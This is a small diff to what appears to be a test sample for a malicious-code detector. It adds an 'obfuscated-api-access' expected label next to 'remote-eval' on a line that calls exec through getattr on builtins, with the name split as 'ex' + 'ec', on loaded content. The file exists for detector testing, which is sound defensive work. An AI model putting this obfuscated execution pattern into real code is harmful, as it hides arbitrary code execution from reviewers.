@@ -10,7 +10,7 @@ def load():
 
 def start():
     load()
-    getattr(__import__("builtins"), "ex" + "ec")(box["next"]) # expect: malicious-command/remote-eval
+    getattr(__import__("builtins"), "ex" + "ec")(box["next"]) # expect: malicious-command/remote-eval, malicious-command/obfuscated-api-access
 
 
 start()
